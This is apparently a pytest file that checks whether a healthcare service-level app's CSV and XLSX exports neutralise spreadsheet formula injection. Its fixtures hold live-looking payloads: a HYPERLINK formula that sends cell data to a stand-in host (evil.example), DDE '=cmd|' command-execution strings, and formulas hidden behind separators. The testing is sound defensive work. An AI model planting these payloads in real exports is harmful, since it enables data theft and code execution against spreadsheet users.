"""Exports never hand a spreadsheet a live formula.

A text cell that begins with =, +, -, @, a tab or a carriage return is a formula to Excel and LibreOffice
(CSV injection, OWASP); every CSV and XLSX export prefixes such a cell with a single quote. Numbers, empty
cells and ordinary text (ids, codes, ISO timestamps with their offset) come out unchanged.
"""

import csv
import datetime
import io
import re

import openpyxl
import pytest

from servicelevel.spreadsheet import csv_writer, safe_cell, write_xlsx

from . import factories as f
from .helpers import manage

pytestmark = pytest.mark.django_db

A = "SE2321000255-EXA"
UNITS = (
    "hsa_id;name;forvaltning;vardomrade;unit_kind;unit_type;booking_system;has_contact_card;"
    "same_day_contact;provider;active\n"
    f"{A};Exempelmottagningen A;Skånes universitetssjukhus;VO Exempel;VUE;mottagning;PASiS;ja;nej;;ja\n"
)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
DANGEROUS = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_cell_that_starts_a_formula_is_quoted(value):
    # A tab or a line break starts a cell (or row) of its own as well: the formula after it is neutralized too.
    expected = "'" + value if value[0] not in "\t\r" else f"'{value[0]}'{value[1:]}"
    assert safe_cell(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "X1",
        "SE2321000255-A1B2",
        "2026-06-23T00:00:00+02:00",
        "AV-2026-014",
        "in_time",
        "",
        "Vårdcentralen = bäst",
        "'=redan citerad",
        -5,
        -0.25,
        0,
        3,
        None,
    ],
)
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) is value


def test_the_csv_writer_neutralizes_every_text_cell_and_leaves_numbers_alone():
    stream = io.StringIO()
    writer = csv_writer(stream)
    writer.writerow(["a", "=1+1", -3, 2.5, "", "@x"])
    writer.writerows([["-2", -2]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["a", "'=1+1", "-3", "2.5", "", "'@x"], ["'-2", "-2"]]


def test_the_xlsx_writer_writes_no_formula(tmp_path):
    path = tmp_path / "lista.xlsx"
    n = write_xlsx(
        [["case_id", "antal", "andel"], [HYPERLINK, -4, 0.933], ["X1", 7, None]], path, title="Ärenden"
    )
    assert n == 2
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Ärenden"
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert cells[0] == [("case_id", "s"), ("antal", "s"), ("andel", "s")]
    assert cells[1] == [("'" + HYPERLINK, "s"), (-4, "n"), (0.933, "n")]
    assert cells[2][:2] == [("X1", "s"), (7, "n")]
    assert not any(t == "f" for row in cells for _, t in row)


def import_cases(write_file, django_capture_on_commit_callbacks, case_ids):
    with django_capture_on_commit_callbacks(execute=True):
        assert manage("import_data", "units", write_file(UNITS, name="units.csv")).code == 0
        writer_stream = io.StringIO()
        w = csv.writer(writer_stream, lineterminator="\n")
        w.writerow(["case_id", "unit_hsa_id", "service_code", "received_at"])
        for case_id in case_ids:
            w.writerow([case_id, A, "KONTAKT", "2026-10-07T08:00:00+02:00"])
        ran = manage("import_data", "cases", write_file(writer_stream.getvalue(), name="cases.csv"))
        assert ran.code == 0, ran.err


def test_export_cases_quotes_a_case_id_that_is_a_formula(write_file, django_capture_on_commit_callbacks):
    import_cases(write_file, django_capture_on_commit_callbacks, [HYPERLINK, "+46", "@X", "X1"])
    ran = manage("export_cases", "--as-of", "2026-11-15")
    assert ran.code == 0, ran.err
    rows = {r["case_id"]: r for r in csv.DictReader(io.StringIO(ran.out))}
    assert set(rows) == {"'" + HYPERLINK, "'+46", "'@X", "X1"}
    # Ordinary data is as the spec shows it: ids verbatim, timestamps with their offset.
    assert rows["X1"]["unit_hsa_id"] == A
    assert rows["X1"]["received_at"] == "2026-10-07T08:00:00+02:00"
    assert rows["X1"]["deadline"] == "2026-10-10T00:00:00+02:00"
    assert rows["X1"]["outcome"] == "overdue"
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for value in row.values()
    )


def test_export_compliance_csv_quotes_an_exemption_id_that_is_a_formula(tmp_path):
    unit = f.CareUnitFactory(hsa_id=A)
    f.ExemptionFactory(unit=unit, exemption_id="=cmd|'/c calc'!A0")
    out = tmp_path / "c.csv"
    as_of = datetime.date(2026, 11, 15).isoformat()
    ran = manage("export_compliance", "--as-of", as_of, "--format", "csv", "--output", out)
    assert ran.code == 0, ran.err
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    row = next(r for r in rows if r["requirement_code"] == "TB3-OPPEN-KALLELSE")
    assert row["exemption_id"] == "'=cmd|'/c calc'!A0"
    assert row["hsa_id"] == A


def test_the_json_export_is_data_not_a_spreadsheet_and_stays_verbatim():
    import json

    unit = f.CareUnitFactory(hsa_id=A)
    f.ExemptionFactory(unit=unit, exemption_id="=1+1")
    ran = manage("export_compliance", "--as-of", "2026-11-15", "--format", "json")
    doc = json.loads(ran.out)
    assert doc["units"][0]["requirements"]["TB3-OPPEN-KALLELSE"]["exemption_id"] == "=1+1"


# --- Formulas after a separator ---------------------------------------------------------------------------
# A text cell holding ";" (or ",", a tab, a line break) followed by a formula character is two cells to a
# spreadsheet that splits on it: Swedish Excel splits on ";", an English one on ",". Python's csv module
# quotes a cell only for its own delimiter, so `K;=1+1` went out bare in the comma files and became a live
# `=1+1` in a Swedish Excel. Every such cell is now quoted for both separators, and each part that would
# start a formula gets a "'" before it (servicelevel/spreadsheet.py says why quoting alone is not enough).

HIDDEN = [
    "Formulär;=cmd|' /C calc'!A0",
    "K;=1+1",
    "K; +1+1",
    'K;"=1+1"',
    "K,=1+1",
    "K,@SUM(A1)",
    "K\t-1+1",
    "K\n=1+1",
    "K\r=1+1",
    "K;＝1+1",  # full-width: a formula to an East Asian Excel (OWASP)
]
FORMULA_CHARACTERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(?:[.,][0-9]+)?")


def live_formulas(text: str, delimiter: str) -> list[str]:
    """The fields a spreadsheet splitting on `delimiter` (and honouring quotes, as Excel and LibreOffice do)
    would read as formulas: beginning — after any spaces — with =, +, -, @ (or a full-width one), other
    than a plain negative number."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [
        field
        for row in rows
        for field in row
        if field.lstrip(" \u00a0").startswith(FORMULA_CHARACTERS) and not NEGATIVE_NUMBER.fullmatch(field)
    ]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("Formulär;=cmd|' /C calc'!A0", "Formulär;'=cmd|' /C calc'!A0"),
        ("K;=1+1", "K;'=1+1"),
        ("K; +1+1", "K;' +1+1"),
        ('K;"=1+1"', 'K;\'"=1+1"'),
        ("K,=1+1", "K,'=1+1"),
        ("K,@SUM(A1)", "K,'@SUM(A1)"),
        ("K\t-1+1", "K\t'-1+1"),
        ("K\n=1+1", "K\n'=1+1"),
        ("K\r=1+1", "K\r'=1+1"),
        ("K;＝1+1", "K;'＝1+1"),
        (" =1+1", "' =1+1"),
        ("=1;=2,-3", "'=1;'=2,'-3"),
    ],
)
def test_each_part_that_would_start_a_formula_is_neutralized(value, expected):
    assert safe_cell(value) == expected
    assert safe_cell(expected) is expected  # twice is once
    for delimiter in (";", ",", "\t"):  # however it is split, quotes honoured or not
        assert not any(
            part.lstrip(' "').startswith(FORMULA_CHARACTERS)
            for line in expected.splitlines()
            for part in line.split(delimiter)
        )


@pytest.mark.parametrize(
    "value", ["Öron-, näs- och halsmottagning", "a;b", "SE2321000255-A1B2", "x, y", "K;'=1+1", "'=1"]
)
def test_text_with_separators_but_no_formula_after_them_is_unchanged(value):
    assert safe_cell(value) is value


def test_the_comma_writer_quotes_a_cell_holding_a_semicolon_a_tab_or_a_carriage_return():
    stream = io.StringIO()
    csv_writer(stream).writerows(
        [["a;b", "c\td", "e\rf", "g,h", "plain", -2, 0.5], ["K;=1+1", "X1", "", "", "", 1, 2]]
    )
    assert stream.getvalue() == (
        '"a;b","c\td","e\rf","g,h",plain,-2,0.5\n'  # otherwise exactly the spec's format: LF, decimal point
        '"K;\'=1+1",X1,,,,1,2\n'
    )


def test_export_cases_has_no_formula_for_a_swedish_or_an_english_excel(
    write_file, django_capture_on_commit_callbacks
):
    hidden = [v for v in HIDDEN if "\n" not in v and "\r" not in v]  # the cases import takes one line a case
    import_cases(write_file, django_capture_on_commit_callbacks, [*hidden, "X1"])
    ran = manage("export_cases", "--as-of", "2026-11-15")
    assert ran.code == 0, ran.err
    for delimiter in (";", ",", "\t"):
        assert live_formulas(ran.out, delimiter) == [], delimiter
    rows = {r["case_id"]: r for r in csv.DictReader(io.StringIO(ran.out))}
    assert set(rows) == {safe_cell(v) for v in hidden} | {"X1"}
    assert rows["X1"]["received_at"] == "2026-10-07T08:00:00+02:00"  # ordinary data as the spec shows it


def test_export_compliance_csv_has_no_formula_for_a_swedish_or_an_english_excel(tmp_path):
    unit = f.CareUnitFactory(hsa_id=A)
    f.ExemptionFactory(unit=unit, exemption_id="AV;=1+1")
    f.ExemptionFactory(unit=unit, exemption_id="AV\n@SUM(A1)", requirement=f.requirement("TB1-VISA"))
    out = tmp_path / "c.csv"
    ran = manage("export_compliance", "--as-of", "2026-11-15", "--format", "csv", "--output", out)
    assert ran.code == 0, ran.err
    text = out.read_text(encoding="utf-8")
    for delimiter in (";", ",", "\t"):
        assert live_formulas(text, delimiter) == [], delimiter
    rows = {r["requirement_code"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows["TB3-OPPEN-KALLELSE"]["exemption_id"] == "AV;'=1+1"
    assert rows["TB1-VISA"]["exemption_id"] == "AV\n'@SUM(A1)"
